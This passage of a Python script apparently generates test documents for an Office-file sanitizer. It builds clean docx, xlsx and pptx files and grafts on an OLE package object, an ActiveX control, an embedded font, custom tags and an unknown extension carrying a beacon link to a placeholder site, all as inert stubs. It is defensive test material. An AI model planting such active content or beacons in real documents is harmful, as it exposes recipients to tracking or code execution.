    id = it.relate(SLIDE, "oleObject", "../embeddings/oleObject1.bin")
    it.before(SLIDE, "</p:spTree>", '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="99" name="Object"/><p:cNvGraphicFramePr/>'
              '<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic><a:graphicData '
              f'uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj {R} name="x" r:id="{id}" imgW="1" '
              'imgH="1" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>')


@graft("p", "a control on a slide", "active_content_removed")
def slide_control(it):
    it.part("ppt/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
            "application/vnd.ms-office.activeX+xml")
    id = it.relate(SLIDE, "control", "../activeX/activeX1.xml")
    it.before(SLIDE, "</p:cSld>", f'<p:controls><p:control {R} name="x" r:id="{id}" imgW="1" imgH="1"/></p:controls>')


@graft("p", "an embedded font of slides", "font_removed")
def slide_font(it):
    it.part("ppt/fonts/font1.fntdata", bytes(64), "application/x-fontdata")
    id = it.relate(main(it), "font", "fonts/font1.fntdata")
    it.before(main(it), "<p:defaultTextStyle", '<p:embeddedFontLst><p:embeddedFont><p:font typeface="x"/>'
              f'<p:regular {R} r:id="{id}"/></p:embeddedFont></p:embeddedFontLst>')


@graft("p", "data of another maker on a slide", "metadata_removed")
def tags(it):
    it.part("ppt/tags/tag1.xml", '<p:tagLst xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:tag name="A" '
            'val="b"/></p:tagLst>', "application/vnd.openxmlformats-officedocument.presentationml.tags+xml")
    id = it.relate(SLIDE, "tags", "../tags/tag1.xml")
    it.before(SLIDE, "</p:cSld>", f'<p:custDataLst><p:tags {R} r:id="{id}"/></p:custDataLst>')


@graft("p", "an extension that nobody knows", None)
def extension(it):
    it.before(SLIDE, "</p:sld>", '<p:extLst><p:ext uri="{00000000-0000-0000-0000-000000000000}"><x:beacon xmlns:x="urn:x" '
              f'href="{SITE}"/></p:ext></p:extLst>')


# ── carriers ───────────────────────────────────────────────────────────────────────────────────────────────────────

def saved(document):
    out = io.BytesIO()
    document.save(out)
    return Package(out.getvalue())


def word_carrier():
    document = docx.Document()
    document.core_properties.title = "様式第1号"
    document.add_heading("申請書", 1)
    paragraph = document.add_paragraph("つぎの")
    paragraph.add_run("語句")
    paragraph.add_run("が残る。")
    document.add_picture(io.BytesIO(png((200, 30, 30))), width=Cm(2))
    table = document.add_table(2, 2)
    table.cell(0, 0).merge(table.cell(0, 1)).text = "氏名"
    document.sections[0].header.paragraphs[0].text = "手水市"
    return saved(document)


def sheet_carrier():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "様式"
    sheet["A1"], sheet["A2"], sheet["A3"] = "氏名", 12, "=SUM(A2,1)"
    sheet["A1"].comment = Comment("記入してください", "情報政策課")
    sheet["B1"].number_format = '[$-411]ggge"年"m"月"d"日"'
    sheet.merge_cells("C1:D2")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=2, max_row=3))
    sheet.add_chart(chart, "F1")
    sheet.page_setup.orientation = "landscape"
    book.create_sheet("控え")["A1"] = -12
    book.defined_names["合計"] = DefinedName("合計", attr_text="様式!$A$3")
    it = saved(book)
    # As Excel writes it, which says of sheets that are seen nothing, and of shapes that they have no macro.
    it.members[main(it)] = it.members[main(it)].replace(b' state="visible"', b"")
    it.replace("xl/drawings/drawing1.xml", "<graphicFrame>", '<graphicFrame macro="">')
    return it


def slides_carrier():
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[5])
    slide.shapes.title.text_frame.text = "議案"
    slide.shapes.add_picture(io.BytesIO(png((30, 30, 200))), 0, 0)
    slide.notes_slide.notes_text_frame.text = "読み上げる"
    it = saved(show)
    it.replace(SLIDE, "<a:r><a:t>議案", f"<a:r>{RUN}<a:t>議案")
    return it


carriers = {"w": ("docx", word_carrier()), "x": ("xlsx", sheet_carrier()), "p": ("pptx", slides_carrier())}
rows, target = [], sys.argv[1]


def write(name, package):
    path = os.path.join(target, name)
    with open(path, "wb") as file:
        file.write(package.bytes())
    return path


clean = {kind: write(f"clean.{end}", package) for kind, (end, package) in carriers.items()}
for number, (kind, name, code, leaves, function) in enumerate(GRAFTS):
    end, package = carriers[kind]
    grafted = package.copy()
    function(grafted)
    if any("/vbaProject.bin" in name or "/macrosheets/" in name for name in grafted.members):
        end = end[:-1] + "m"
    rows.append({"clean": None if leaves is REFUSED else clean[kind], "refused": leaves is REFUSED, "grafted": write(f"{number:04}.{end}", grafted), "name": f"{end}: {name}", "code": code,
                 "leaves": leaves or []})
json.dump(rows, sys.stdout)
